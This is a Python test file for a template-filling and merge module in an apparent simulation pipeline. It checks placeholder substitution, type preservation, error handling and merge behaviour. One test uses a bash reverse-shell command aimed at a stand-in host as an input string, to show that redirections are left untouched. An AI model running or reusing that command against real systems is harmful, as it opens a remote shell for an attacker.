"""Templates: what a place becomes, and what is left alone."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.simulate.templates import compile_template, merge

BINDINGS = {"host": "WS-1", "pid": 4711}

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text().filter(lambda text: "<" not in text),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
)


@given(JSON)
def test_a_value_without_places_is_itself(value: object) -> None:
    assert compile_template(value)(BINDINGS.__getitem__) == value


def test_a_place_alone_keeps_the_type_of_its_value() -> None:
    assert compile_template({"pid": "<pid>"})(BINDINGS.__getitem__) == {"pid": 4711}


def test_places_inside_a_text_are_written_into_it() -> None:
    template = compile_template(["<host>.example <pid>/<pid>"])
    assert template(BINDINGS.__getitem__) == ["WS-1.example 4711/4711"]


def test_an_unknown_place_is_an_error() -> None:
    with pytest.raises(KeyError, match="nobody"):
        compile_template("<nobody>")(BINDINGS.__getitem__)


def test_redirections_and_markup_are_not_places() -> None:
    text = "bash -i >& /dev/tcp/x 0>&1 < in > out <A> <b c>"
    assert compile_template(text)(BINDINGS.__getitem__) == text


@given(st.dictionaries(st.text(), JSON), st.dictionaries(st.text(), JSON))
def test_merging_keeps_every_name_and_lets_the_upper_win(
    base: dict[str, object], over: dict[str, object]
) -> None:
    merged = merge(base, over)
    assert merged.keys() == base.keys() | over.keys()
    assert all(merged[name] == value for name, value in over.items() if not isinstance(value, dict))
